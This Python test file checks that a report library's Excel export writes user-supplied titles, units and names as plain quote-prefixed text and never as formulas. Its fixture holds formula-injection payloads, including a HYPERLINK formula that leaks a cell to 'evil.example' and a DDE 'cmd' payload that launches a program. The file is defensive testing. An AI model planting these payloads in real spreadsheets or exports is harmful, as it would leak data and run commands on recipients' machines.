"""Workbooks write user text as text: no formula cell from a series name, unit or title."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from reports.content import ReportData, build_report, compute_section
from reports.xlsx import render_xlsx
from tests.reports.conftest import AS_OF, monthly_series

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "unit": "=1+1",
    "source": "+cmd|' /C calc'!A0",
    "report": "=SUM(1,2)",
    "description": "@SUM(1,2)",
    "series_id": "-2+3",
}


@pytest.fixture(scope="module")
def report() -> ReportData:
    section = compute_section(
        HOSTILE["series_id"],
        monthly_series(seed=2),
        horizon=3,
        levels=(80,),
        model="drift",
        title=HOSTILE["title"],
        unit=HOSTILE["unit"],
        source=HOSTILE["source"],
        backtest_windows=1,
    )
    return build_report(
        name="inject",
        title=HOSTILE["report"],
        description=HOSTILE["description"],
        sections=[section],
        as_of=AS_OF,
        generated_at=datetime(2024, 1, 15, 13, 0, tzinfo=UTC),
        horizon=3,
        levels=(80,),
        model="drift",
    )


def test_user_strings_are_text_cells_with_a_quote_prefix_never_formulas(report: ReportData) -> None:
    data = render_xlsx(report)
    book = load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in HOSTILE.values():
        assert text in by_value, text  # written as it is, not altered
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix, text
    raw = b"".join(zipfile.ZipFile(io.BytesIO(data)).read(n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist())
    assert b"<f>" not in raw and b"<f " not in raw  # no formula element anywhere in the package


def test_numbers_stay_numbers_and_plain_text_has_no_prefix(report: ReportData) -> None:
    book = load_workbook(io.BytesIO(render_xlsx(report)))
    sheet = book.worksheets[1]
    header = next(c.row for c in sheet["A"] if c.value == "period")
    value = sheet.cell(header + 1, 2)
    assert isinstance(value.value, float) and value.data_type == "n"
    period = sheet.cell(header + 1, 1)
    assert period.data_type == "s" and not period.quotePrefix
